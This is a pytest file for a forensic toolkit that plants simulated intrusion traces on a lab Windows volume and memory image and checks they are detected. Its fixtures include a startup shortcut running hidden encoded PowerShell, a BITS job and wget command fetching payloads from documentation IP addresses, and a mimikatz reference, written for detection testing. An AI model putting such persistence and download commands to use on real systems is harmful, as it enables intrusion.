"""A Windows server's registry, event logs, tasks, prefetch, Amcache and MFT, written by lab/evidence/windows to a real NTFS volume."""

from __future__ import annotations

import json
import zipfile
from datetime import datetime
from pathlib import Path
from uuid import UUID

import pytest

from forensic_toolkit.times import zulu
from lab.tools.windows import evtx, regf, server
from tests.toolkit import bits_blobs, browser_databases
from tests.toolkit import shortcut_blobs as blobs
from tests.toolkit.examined import NO_TOOLS, TOOLS, examine, moment, run

needs_tools = pytest.mark.skipif(not TOOLS.exists(), reason=NO_TOOLS)
needs_ntfs = pytest.mark.skipif(server.missing() is not None, reason=server.missing() or "")


@pytest.fixture(scope="module")
def volume(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The server's volume."""
    path = tmp_path_factory.mktemp("windows") / "windows.raw"
    server.ntfs(path)
    return path


EXPECTED = {
    ("T1110", "critical"): 60,
    ("T1021.001", "low"): 120,
    ("T1059.001", "high"): 180,
    ("T1136.001", "medium"): 240,
    ("T1098", "high"): 270,
    ("T1053.005", "low"): 300,
    ("T1543.003", "high"): 360,
    ("T1547.001", "high"): 420,
    ("T1204.002", "medium"): 480,
    ("T1685.005", "high"): 540,
}


@needs_tools
@needs_ntfs
@pytest.mark.investigate
def test_the_intrusion_is_found_step_by_step(volume: Path) -> None:
    found = examine(volume, whole=True)
    assert found["gaps"] == [] and found["failure"] is None
    said = {
        (item["technique"], item["severity"], (datetime.fromisoformat(item["time"]) - server.NIGHT).total_seconds())
        for item in found["findings"]
        if item["time"]
    }
    missing = {step: second for step, second in EXPECTED.items() if (*step, float(second)) not in said}
    print(
        f"\n[investigate] windows: {len(EXPECTED) - len(missing)} of {len(EXPECTED)} steps, {len(said)} findings with a time"
    )
    assert missing == {}
    assert any(
        "Scheduled task that starts a suspicious program: \\Updater" in item["title"] for item in found["findings"]
    )
    account = {item["path"].rsplit("/", 1)[-1]: (item["lines"], item["parsed"]) for item in found["coverage"]}
    assert account == {"Security.evtx": (12, 12), "System.evtx": (1, 1), "prefetch": (1, 1)}
    assert any(event["source"].startswith("prefetch") for event in found["events"])
    (cached,) = [item for item in found["findings"] if item["source"] == "shimcache"]
    assert cached["data"]["path"] == server.IMPLANT and moment(cached["time"]) == server.at(6, 45)


def changed(volume: Path, folder: Path, *, old: bytes, new: bytes) -> Path:
    """A copy with some bytes replaced."""
    data = volume.read_bytes()
    assert data.count(old) == 1 and len(old) == len(new)
    path = folder / "changed.raw"
    path.write_bytes(data.replace(old, new))
    return path


@needs_tools
@needs_ntfs
@pytest.mark.investigate
def test_a_log_and_a_hive_without_records_are_gaps(volume: Path, tmp_path: Path) -> None:
    records = evtx.log(server.security())[4096 + 512 : 4096 + 512 + 4000]
    broken = changed(volume, tmp_path, old=records, new=b"\xff" * len(records))
    hive = server.registry()["windows/system32/config/system"][:4600]
    broken = changed(broken, tmp_path, old=hive, new=hive[:4096] + b"\xff" * 504)
    gaps = {gap["what"]: gap["why"] for gap in examine(broken, whole=True)["gaps"]}
    print(f"\n[investigate] windows, damaged: {gaps}")
    assert "of 12 lines were parsed" in gaps["coverage: /windows/system32/winevt/logs/Security.evtx"]
    assert "services gave no records" in gaps["coverage: /windows/system32/config/system"]


_MFT = """
import json, sys, tempfile
from pathlib import Path
from forensic_toolkit.commands import windows_disk
from forensic_toolkit.results import Results
from forensic_toolkit.times import now

results = Results("fc-20260101-0123456789", "disk-1", "disk", started=now())
with tempfile.TemporaryDirectory() as folder:
    windows_disk.master_file_table(Path(sys.argv[1]), results=results, raw=Path(folder))
print(json.dumps(results.as_dict(ended=now())))
"""


@needs_tools
@needs_ntfs
@pytest.mark.investigate
def test_the_mft_reveals_a_forged_time(volume: Path) -> None:
    found = json.loads(run(_MFT, str(volume)))
    assert found["gaps"] == [] and found["counts"]["mft_records"] > 100
    (forged,) = found["findings"]
    assert "svch0st.exe" in forged["title"] and "2019-03-04T05:06:07Z" in forged["detail"]


@needs_tools
@needs_ntfs
@pytest.mark.investigate
def test_what_a_user_opened_downloaded_and_let_be_transferred(tmp_path: Path) -> None:
    """Shortcuts, a jump list, a queue of BITS and a browser's history (part of it in its log) on the volume itself."""
    roaming, tool = "users/kim/AppData/Roaming/Microsoft/Windows", r"E:\mimikatz.exe"
    power = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
    number, file = UUID(int=0xA), UUID(int=0xF)
    job = bits_blobs.job("upd", number=number, files=[file], created=server.at(31), program=r"C:\Users\Public\s.exe")
    transfer = bits_blobs.file("http://203.0.113.9/s.exe", r"C:\Users\Public\s.exe")
    saved = ("http://203.0.113.9/setup.exe", r"C:\Users\kim\Downloads\setup.exe", server.at(30), 0)
    history = browser_databases.chromium(
        tmp_path, visits=[("https://portal.example/", "P", server.at(29))], downloads=[saved], in_log=True
    )
    contents = {
        "Windows/System32/ntdll.dll": b"MZ",
        f"{roaming}/Start Menu/Programs/Startup/sync.lnk": blobs.link(power, "-w hidden -enc SQBFAFgA"),
        f"{roaming}/Recent/AutomaticDestinations/a.automaticDestinations-ms": blobs.destinations(
            [(tool, server.at(32), 1, blobs.link(tool))]
        ),
        "ProgramData/Microsoft/Network/Downloader/qmgr.db": bits_blobs.queue_10([job], [(file, transfer)]),
        **{
            f"users/kim/AppData/Local/Google/Chrome/User Data/Default/History{end}": raw for end, raw in history.items()
        },
    }
    volume = tmp_path / "users.raw"
    server.volume(volume, contents)
    found = examine(volume, whole=True, seconds=1800)
    said = {(item["technique"], item["severity"], item["time"]) for item in found["findings"]}
    assert said >= {
        ("T1197", "high", zulu(server.at(31))),
        ("T1105", "high", zulu(server.at(31))),
        ("T1105", "medium", zulu(server.at(30))),
        ("T1204.002", "high", zulu(server.at(32))),
    }
    (started,) = [item for item in found["findings"] if item["technique"] == "T1547.001"]
    assert started["severity"] == "high" and started["source"].endswith("/sync.lnk")
    states = {item["name"]: item["state"] for item in found["artifacts"]}
    for kind in ("Windows shortcuts", "jump lists", "BITS jobs", "browser history (Windows)"):
        assert states[kind] == "examined", kind
    messages = {event["message"] for event in found["events"]}
    assert "kim (Chrome) visited https://portal.example/ (P)" in messages and f"kim opened {tool}" in messages


def test_hives_of_the_lab_hold_what_they_should() -> None:
    hive = server.registry()["windows/system32/config/software"]
    assert hive[:4] == b"regf" and len(hive) % 4096 == 0
    assert regf.filetime(datetime.fromisoformat("1970-01-01T00:00:00+00:00")) == 116_444_736_000_000_000
    many = evtx.log(server.security() * 60)
    assert (len(many) - 4096) % evtx.CHUNK == 0 and many.count(b"ElfChnk\0") == (len(many) - 4096) // evtx.CHUNK > 3
    with pytest.raises(ValueError, match="does not fit into a chunk"):
        evtx.log([evtx.Event(1, "Security", "x", server.NIGHT, {"Data": "x" * 40_000})])


_MEMORY = """
import json, sys, tempfile
from pathlib import Path
from forensic_toolkit.commands import memory
from forensic_toolkit.results import Results
from forensic_toolkit.times import now

results = Results("fc-20260101-0123456789", "mem-1", "memory", started=now())
results.input_bytes = 1
with tempfile.TemporaryDirectory() as folder:
    work = Path(folder)
    files = {"memory": Path(sys.argv[1]), **({"symbols_windows": Path(sys.argv[2])} if len(sys.argv) > 2 else {})}
    memory.analyse(results, files=files, work=work, raw=work / "raw", platform="windows")
print(json.dumps(results.as_dict(ended=now())))
"""


@needs_tools
@pytest.mark.investigate
def test_windows_memory_without_a_fitting_table_is_partial(tmp_path: Path) -> None:
    image = tmp_path / "memory.raw"
    image.write_bytes(bytes(1 << 20) + b"wget http://203.0.113.66/a -O /tmp/.x\0" + bytes(1 << 20))
    alone = json.loads(run(_MEMORY, str(image)))
    assert "no symbol table for Windows" in alone["gaps"][0]["why"]
    assert any("text in memory" in item["title"] for item in alone["findings"])
    archive = tmp_path / "symbols.zip"
    with zipfile.ZipFile(archive, "w") as packed:
        packed.writestr("windows/ntkrnlmp.pdb/3844DBB920174967BE7AA4A2C20430FA-2.json", b"{}")
    tried = json.loads(run(_MEMORY, str(image), str(archive)))
    runs = [item for item in tried["provenance"] if item["tool"] == "volatility3"]
    assert len(runs) == 20 and all(item["error"] for item in runs), "each plugin's failure is recorded for itself"
    assert any("cannot read the list of processes" in gap["why"] for gap in tried["gaps"])
    assert any("text in memory" in item["title"] for item in tried["findings"])
